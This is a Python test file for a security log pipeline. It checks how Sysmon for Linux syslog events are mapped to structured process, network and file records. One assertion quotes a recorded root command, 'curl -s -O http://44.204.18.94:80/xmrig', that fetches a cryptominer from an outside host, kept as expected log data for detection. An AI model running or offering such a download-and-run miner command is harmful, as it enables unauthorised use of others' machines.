"""Sysmon for Linux's syslog lines are mapped by event id (:mod:`secpipe.formats._linux_sysmon`), not kept
as Base Events. Real lines: tests/cases/runtime33/sysmon-linux-syslog.log (see its SOURCES.md)."""

from __future__ import annotations

from pathlib import Path

from secpipe import formats

CASES = Path(__file__).parents[1] / "cases"
LINES = CASES / "runtime33" / "sysmon-linux-syslog.log"


def _by_code(data: bytes) -> dict[str | None, list[dict]]:
    dec = formats.get("syslog").decode(data, "t")
    assert dec.dead == [] and dec.events == len(data.splitlines())
    out: dict[str | None, list[dict]] = {}
    for b in dec.batches:
        for r in b.to_pylist():
            out.setdefault(r["metadata"]["event_code"], []).append(r)
    return out


def test_sysmon_for_linux_events_by_id() -> None:
    data = LINES.read_bytes()
    ev = _by_code(data)
    (launch,), (created,), (ended,) = ev["1"], ev["11"], ev["5"]
    conn, gone = ev["3"]
    assert (launch["class_uid"], launch["activity_id"], ended["activity_id"]) == (1007, 1, 2)
    assert launch["metadata"]["product"]["name"] == "Sysmon for Linux"
    p = launch["process"]
    assert (p["name"], p["pid"], p["file"]["path"], p["user"]["name"], p["working_directory"]) == (
        "curl", 4005, "/usr/bin/curl", "root", "/opt/automation")
    assert p["cmd_line"].startswith("curl -s -O http://44.204.18.94:80/xmrig")
    assert (p["parent_process"]["pid"], launch["actor"]["process"]["file"]["path"]) == (4004, "/bin/bash")
    assert launch["time_dt"].isoformat() == "2022-11-24T09:59:47.884000+00:00"  # UtcTime (the header has no year)
    assert launch["device"]["hostname"] == "ip-172-31-60-25"
    assert (ended["process"]["uid"], ended["actor"]["process"]["name"]) == ("{c9eb4a87-4093-637f-789d-2406ab550000}", "curl")
    assert (conn["class_uid"], conn["connection_info"]["direction"], conn["connection_info"]["protocol_num"]) == (4001, "Outbound", 6)
    assert (conn["src_endpoint"]["port"], conn["dst_endpoint"]["ip"], conn["dst_endpoint"]["port"]) == (42234, "44.204.18.94", 80)
    assert conn["actor"]["process"]["file"]["path"] == "/usr/bin/curl"
    assert (gone["actor"]["process"]["pid"], gone["actor"]["process"]["name"]) == (2756479, None)  # no Image logged
    assert (created["class_uid"], created["activity_id"], created["file"]["path"], created["file"]["name"]) == (
        1001, 1, "/opt/automation/xmrig", "xmrig")
    assert created["actor"]["user"]["name"] == "root"
    assert launch["raw_data"] == data.decode().splitlines()[0]


def test_hashes_entities_and_other_ids() -> None:
    # the layout of the real lines; values and the ids 23 (FileDelete) and 16 (config change) from Sysmon's event schema
    head = ('<14>Nov 24 10:00:00 h sysmon: <Event><System><Provider Name="Linux-Sysmon" '
            'Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>{id}</EventID><Computer>h</Computer></System><EventData>')
    tail = "</EventData></Event>"
    deleted = (head.replace("{id}", "23") + '<Data Name="UtcTime">2022-11-24 10:00:00.001</Data><Data Name="ProcessId">7</Data>'
               '<Data Name="Image">/usr/bin/rm</Data><Data Name="TargetFilename">/tmp/a &amp; b</Data>'
               '<Data Name="Hashes">SHA256=AB12,MD5=CD34</Data><Data Name="User">root</Data>' + tail)
    config = head.replace("{id}", "16") + '<Data Name="Configuration">/etc/sysmon.xml</Data>' + tail
    ev = _by_code(f"{deleted}\n{config}\n".encode())
    (gone,), (other,) = ev["23"], ev[None]
    assert (gone["class_uid"], gone["activity_id"], gone["file"]["path"]) == (1001, 4, "/tmp/a & b")
    assert [(h["algorithm_id"], h["value"]) for h in gone["file"]["hashes"]] == [(3, "AB12"), (1, "CD34")]
    assert other["class_uid"] == 0  # a Sysmon service event: Base Event
